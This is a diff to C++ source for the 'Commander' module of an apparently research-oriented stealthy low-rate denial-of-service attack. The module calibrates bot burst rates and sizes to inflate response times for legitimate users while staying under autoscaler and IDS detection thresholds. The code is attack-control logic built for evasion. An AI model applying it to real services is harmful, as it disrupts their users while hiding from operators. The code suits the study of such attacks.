@@ -8,6 +8,71 @@
 #include "util/logging.h"
 
 namespace grunt::attack {
+namespace {
+
+// Tuning of the Commander module (Sec IV-D).
+
+// --- attacking goals (the stealth goal, P_MB <= 500 ms, is kPmbLimitMs) ---
+constexpr double kTargetTminMs = 1000.0;  ///< damage goal: avg RT >= 1 s
+
+// --- initialisation (find min B, max L, min m) ---
+/// Geometric sweep for the minimum burst rate that triggers a
+/// millibottleneck (requests/second).
+constexpr double kRateSweepLo = 200.0;
+constexpr double kRateSweepHi = 6400.0;
+constexpr std::int32_t kRateProbeCount = 16;  ///< requests per rate-test burst
+/// A burst whose mean RT exceeds `kTriggerFactor * baseline` (or baseline
+/// + kTriggerFloorMs) indicates resource saturation (Sec IV-D step 1).
+constexpr double kTriggerFactor = 2.5;
+constexpr double kTriggerFloorMs = 40.0;
+/// Baseline RT assumed for a path the profiler produced no measurement
+/// for (e.g. every baseline probe failed against a fault-tolerant
+/// target). A warning is logged the first time it is used.
+constexpr double kFallbackBaselineMs = 100.0;
+/// A rate-sweep burst also counts as "triggered" when the target starts
+/// failing requests: a fault-tolerant deployment sheds or times out
+/// instead of letting RT grow, so errors ARE the saturation signal.
+constexpr double kTriggerErrorFraction = 0.10;
+/// Margin under the stealth cap targeted during L calibration.
+constexpr double kPmbTargetFraction = 0.9;
+constexpr std::int32_t kMaxPaths = 6;     ///< cap on m
+constexpr std::int32_t kMinCount = 4;     ///< smallest burst size ever used
+constexpr std::int32_t kMaxCount = 4096;  ///< safety cap on burst size
+
+// --- steady-state control loop ---
+constexpr SimDuration kMinInterval = Ms(100);
+constexpr SimDuration kMaxInterval = Sec(5);
+/// A path's firing interval before feedback first adapts it, and the
+/// replay cadence of a path its GroupReplay gives no interval for.
+constexpr SimDuration kInitialInterval = Ms(450);
+/// Monitor-module probe cadence: light (legit-like) requests sent during
+/// the attack to estimate the damage a normal user experiences; this is
+/// the t_min feedback signal (burst requests are heavy and would
+/// overestimate it).
+constexpr SimDuration kProbePeriod = Ms(250);
+/// Cool-down between calibration bursts: probe-until-quiet, same
+/// mechanism as the profiler's settle.
+constexpr SimDuration kSettle = Ms(500);
+constexpr std::int32_t kSettleMaxTries = 16;
+constexpr double kSettleFactor = 2.0;
+/// Kalman variances for the P_MB and t_min estimators.
+constexpr double kKfProcessVar = 400.0;       // (ms^2) drift between bursts
+constexpr double kKfMeasurementVar = 2500.0;  // (ms^2) noise of one estimate
+/// Stability guards on the periodic loop: never have more than
+/// `kMaxInflightBursts` bursts without feedback, and pause firing while
+/// the damage estimate exceeds `kOvershootFactor` * target (the feedback
+/// itself is delayed by the damage it reports, so unbounded firing would
+/// run away).
+constexpr std::int32_t kMaxInflightBursts = 3;
+constexpr double kOvershootFactor = 1.5;
+/// Per-service stealth: each bottleneck service may spend at most this
+/// fraction of wall time inside a millibottleneck, keeping its 1 s-mean
+/// CPU below the autoscaler/IDS thresholds. With m alternating paths the
+/// rotation provides the spacing; with m = 1 this forces cool gaps —
+/// which is exactly why single-path attacks cannot meet both goals.
+constexpr double kMaxDutyCycle = 0.30;
+
+}  // namespace
 
 double GroupStats::MeanPmbMs() const {
   if (bursts.empty()) return 0;
@@ -34,7 +99,8 @@ GroupCommander::GroupCommander(TargetClient& target, BotFarm& bots,
                                std::vector<std::int32_t> group,
                                const ProfileResult& profile)
     : target_(target), bots_(bots), cfg_(cfg), group_(std::move(group)),
-      profile_(profile) {
+      profile_(profile),
+      group_tmin_kf_(kKfProcessVar, kKfMeasurementVar, 0.0, 1e5) {
   if (group_.empty()) {
     throw std::invalid_argument("GroupCommander: empty group");
   }
@@ -49,17 +115,25 @@ double GroupCommander::BaselineOf(std::int32_t url) const {
   if (!warned_fallback_baseline_) {
     warned_fallback_baseline_ = true;
     LogWarn() << "commander: no measured baseline for url " << url
-              << "; assuming " << cfg_.fallback_baseline_ms
-              << " ms (cfg.fallback_baseline_ms) — settle/trigger "
+              << "; assuming " << kFallbackBaselineMs
+              << " ms (kFallbackBaselineMs) — settle/trigger "
               << "thresholds will be off if the real baseline differs";
   }
-  return cfg_.fallback_baseline_ms;
+  return kFallbackBaselineMs;
+}
+
+GroupCommander::PathRuntime GroupCommander::NewPath(PathPlan plan,
+                                                    SimDuration interval) {
+  return {plan,
+          ScalarKalman(kKfProcessVar, kKfMeasurementVar,
+                       kPmbLimitMs * kPmbTargetFraction, 1e4),
+          interval};
 }
 
 void GroupCommander::SettleQuiet(std::int32_t url,
                                  std::function<void()> done) {
-  SettleUntilQuiet(target_, bots_, {url}, {BaselineOf(url)}, cfg_.settle,
-                   cfg_.settle_max_tries, cfg_.settle_factor, std::move(done));
+  SettleUntilQuiet(target_, bots_, {url}, {BaselineOf(url)}, kSettle,
+                   kSettleMaxTries, kSettleFactor, std::move(done));
 }
 
 void GroupCommander::Initialize(std::function<void()> done) {
@@ -71,15 +145,8 @@ void GroupCommander::Initialize(std::function<void()> done) {
     for (std::size_t i = 0; i < r.plans.size(); ++i) {
       const SimDuration interval =
           i < r.intervals.size() && r.intervals[i] > 0 ? r.intervals[i]
-                                                       : Ms(450);
-      PathRuntime rt{
-          r.plans[i],
-          ScalarKalman(cfg_.kf_process_var, cfg_.kf_measurement_var,
-                       cfg_.pmb_limit_ms * cfg_.pmb_target_fraction, 1e4),
-          ScalarKalman(cfg_.kf_process_var, cfg_.kf_measurement_var,
-                       cfg_.target_tmin_ms, 1e5),
-          interval};
-      paths_.push_back(std::move(rt));
+                                                       : kInitialInterval;
+      paths_.push_back(NewPath(r.plans[i], interval));
     }
     if (paths_.empty()) {
       throw std::invalid_argument("GroupCommander: empty replay");
@@ -96,15 +163,10 @@ void GroupCommander::Initialize(std::function<void()> done) {
   }
   paths_.clear();
   for (std::int32_t url : group_) {
-    PathRuntime rt{
-        PathPlan{url, BaselineOf(url), 0, 0, 0,
-                 model::KindFromDependencies(url, profile_.pairs)},
-        ScalarKalman(cfg_.kf_process_var, cfg_.kf_measurement_var,
-                     cfg_.pmb_limit_ms * cfg_.pmb_target_fraction, 1e4),
-        ScalarKalman(cfg_.kf_process_var, cfg_.kf_measurement_var,
-                     cfg_.target_tmin_ms, 1e5),
-        Ms(450)};
-    paths_.push_back(std::move(rt));
+    paths_.push_back(
+        NewPath(PathPlan{url, BaselineOf(url), 0, 0, 0,
+                         model::KindFromDependencies(url, profile_.pairs)},
+                kInitialInterval));
   }
   CalibratePath(0, [this, done = std::move(done)]() mutable {
     RankAndTrim();
@@ -122,9 +184,9 @@ void GroupCommander::CalibratePath(std::size_t idx,
     done();
     return;
   }
-  FindMinRate(idx, cfg_.rate_sweep_lo,
+  FindMinRate(idx, kRateSweepLo,
               [this, idx, done = std::move(done)]() mutable {
-                FindMaxCount(idx, cfg_.rate_probe_count, /*last_good=*/0,
+                FindMaxCount(idx, kRateProbeCount, /*last_good=*/0,
                              /*last_good_pmb=*/0,
                              [this, idx, done = std::move(done)]() mutable {
                                SettleQuiet(paths_[idx].plan.url,
@@ -139,26 +201,26 @@ void GroupCommander::CalibratePath(std::size_t idx,
 void GroupCommander::FindMinRate(std::size_t idx, double rate,
                                  std::function<void()> done) {
   PathRuntime& p = paths_[idx];
-  if (rate > cfg_.rate_sweep_hi) {
+  if (rate > kRateSweepHi) {
     // Never saturated within the sweep: use the top rate; the path will
     // contribute little and ranking will push it last.
-    p.plan.rate = cfg_.rate_sweep_hi;
+    p.plan.rate = kRateSweepHi;
     done();
     return;
   }
   BurstSender::Send(
-      target_, bots_, p.plan.url, /*heavy=*/true, rate, cfg_.rate_probe_count,
+      target_, bots_, p.plan.url, /*heavy=*/true, rate, kRateProbeCount,
       /*attack_traffic=*/false,
       [this, idx, rate, done = std::move(done)](BurstObservation obs) mutable {
         PathRuntime& path = paths_[idx];
         const double threshold =
-            std::max(cfg_.trigger_factor * path.plan.baseline_ms,
-                     path.plan.baseline_ms + cfg_.trigger_floor_ms);
+            std::max(kTriggerFactor * path.plan.baseline_ms,
+                     path.plan.baseline_ms + kTriggerFloorMs);
         // Saturation shows either as inflated RT or, against a target with
         // timeouts/shedding deployed, as an error spike at bounded RT.
         const bool triggered =
             obs.MeanRtMs() > threshold ||
-            1.0 - obs.OkFraction() > cfg_.trigger_error_fraction;
+            1.0 - obs.OkFraction() > kTriggerErrorFraction;
         SettleQuiet(path.plan.url,
                     [this, idx, rate, triggered,
                      done = std::move(done)]() mutable {
@@ -177,8 +239,8 @@ void GroupCommander::FindMaxCount(std::size_t idx, std::int32_t count,
                                   double last_good_pmb,
                                   std::function<void()> done) {
   PathRuntime& p = paths_[idx];
-  if (count > cfg_.max_count) {
-    p.plan.count = std::max(cfg_.min_count, last_good);
+  if (count > kMaxCount) {
+    p.plan.count = std::max(kMinCount, last_good);
     p.plan.measured_pmb_ms = last_good_pmb;
     done();
     return;
@@ -189,14 +251,14 @@ void GroupCommander::FindMaxCount(std::size_t idx, std::int32_t count,
       [this, idx, count, last_good, last_good_pmb,
        done = std::move(done)](BurstObservation obs) mutable {
         const double pmb = obs.EstimatePmbMs();
-        const double cap = cfg_.pmb_limit_ms * cfg_.pmb_target_fraction;
+        const double cap = kPmbLimitMs * kPmbTargetFraction;
         SettleQuiet(paths_[idx].plan.url,
                     [this, idx, count, last_good, last_good_pmb, pmb, cap,
                      done = std::move(done)]() mutable {
           PathRuntime& path = paths_[idx];
           if (pmb > cap) {
             // Overshot the stealth cap: keep the previous volume.
-            path.plan.count = std::max(cfg_.min_count,
+            path.plan.count = std::max(kMinCount,
                                        last_good > 0 ? last_good : count / 2);
             path.plan.measured_pmb_ms =
                 last_good_pmb > 0 ? last_good_pmb : pmb;
@@ -217,7 +279,7 @@ void GroupCommander::RankAndTrim() {
     // Volume that produced (close to) the reference millibottleneck; paths
     // that never reached it sort naturally to the back via huge volume.
     c.volume_for_pmb = p.plan.measured_pmb_ms > 0
-                           ? p.plan.volume() * cfg_.pmb_limit_ms /
+                           ? p.plan.volume() * kPmbLimitMs /
                                  p.plan.measured_pmb_ms
                            : 1e18;
     cands.push_back(c);
@@ -234,8 +296,8 @@ void GroupCommander::RankAndTrim() {
     paths_.erase(it);
   }
   paths_ = std::move(ranked);
-  if (static_cast<std::int32_t>(paths_.size()) > cfg_.max_paths) {
-    paths_.erase(paths_.begin() + cfg_.max_paths, paths_.end());
+  if (static_cast<std::int32_t>(paths_.size()) > kMaxPaths) {
+    paths_.erase(paths_.begin() + kMaxPaths, paths_.end());
   }
 }
 
@@ -258,10 +320,9 @@ void GroupCommander::TrialRun(std::int32_t m, std::function<void()> done) {
       ++counted;
     }
     if (counted > 0) mean /= static_cast<double>(counted);
-    trial_tmin_ms_ = mean;
-    const bool enough = mean >= cfg_.target_tmin_ms;
+    const bool enough = mean >= kTargetTminMs;
     const bool exhausted = m >= static_cast<std::int32_t>(paths_.size()) ||
-                           m >= cfg_.max_paths;
+                           m >= kMaxPaths;
     if (enough || exhausted) {
       stats_.paths_used = m;
       SettleQuiet(paths_.front().plan.url, std::move(done));
@@ -331,7 +392,7 @@ void GroupCommander::ProbeLoop(std::shared_ptr<LoopCtx> ctx,
                         stats_.tmin_est_ms.Add(target_.Now(), est);
                       }
                     });
-  target_.After(cfg_.probe_period,
+  target_.After(kProbePeriod,
                 [this, ctx, probe_idx] { ProbeLoop(ctx, probe_idx + 1); });
 }
 
@@ -343,8 +404,8 @@ void GroupCommander::FireLoop(std::shared_ptr<LoopCtx> ctx) {
   // Stability guards: bounded in-flight feedback, back off on overshoot
   // (the feedback is delayed by the very damage it reports; unbounded
   // firing would run away).
-  if (outstanding_bursts_ >= cfg_.max_inflight_bursts ||
-      last_tmin_est_ms_ > cfg_.overshoot_factor * cfg_.target_tmin_ms) {
+  if (outstanding_bursts_ >= kMaxInflightBursts ||
+      last_tmin_est_ms_ > kOvershootFactor * kTargetTminMs) {
     target_.After(Ms(150), [this, ctx] { FireLoop(ctx); });
     return;
   }
@@ -392,7 +453,6 @@ void GroupCommander::OnBurstDone(std::size_t path_idx,
   const double pmb_raw = obs.EstimatePmbMs();
   const double tmin_raw = obs.MeanRtMs();
   const double pmb_est = cfg_.use_kalman ? p.pmb_kf.Update(pmb_raw) : pmb_raw;
-  p.tmin_kf.Update(tmin_raw);
 
   if (!trial) {
     stats_.bursts.push_back({obs.burst_start, p.plan.url, p.plan.rate,
@@ -410,26 +470,26 @@ void GroupCommander::OnBurstDone(std::size_t path_idx,
   // cap: linear P_MB-vs-L relation (Sec III summary).
   if (pmb_est > 1.0) {
     const double scale = std::clamp(
-        cfg_.pmb_limit_ms * cfg_.pmb_target_fraction / pmb_est, 0.6, 1.6);
+        kPmbLimitMs * kPmbTargetFraction / pmb_est, 0.6, 1.6);
     p.plan.count = std::clamp<std::int32_t>(
         static_cast<std::int32_t>(std::lround(p.plan.count * scale)),
-        cfg_.min_count, cfg_.max_count);
+        kMinCount, kMaxCount);
   }
   // Adapt the interval so the maintained damage tracks the goal: too much
   // damage -> widen (stealthier), too little -> tighten (Eq 8/9 feedback).
   // The damage signal is the probe-based estimate (legit-user view).
-  const double ratio = last_tmin_est_ms_ / cfg_.target_tmin_ms;
+  const double ratio = last_tmin_est_ms_ / kTargetTminMs;
   const double adj = std::clamp(ratio, 0.7, 1.4);
   // Per-service duty-cycle floor: this path's bottleneck gets hit once per
   // m rotation steps, so its busy fraction is pmb / (m * interval).
   const double m = static_cast<double>(std::max(1, stats_.paths_used));
   const auto duty_floor = static_cast<SimDuration>(
-      pmb_est * 1000.0 / (cfg_.max_duty_cycle * m));
+      pmb_est * 1000.0 / (kMaxDutyCycle * m));
   const SimDuration lo = std::min(
-      std::max(cfg_.min_interval, duty_floor), cfg_.max_interval);
+      std::max(kMinInterval, duty_floor), kMaxInterval);
   p.interval = std::clamp<SimDuration>(
       static_cast<SimDuration>(static_cast<double>(p.interval) * adj), lo,
-      cfg_.max_interval);
+      kMaxInterval);
 }
 
 }  // namespace grunt::attack
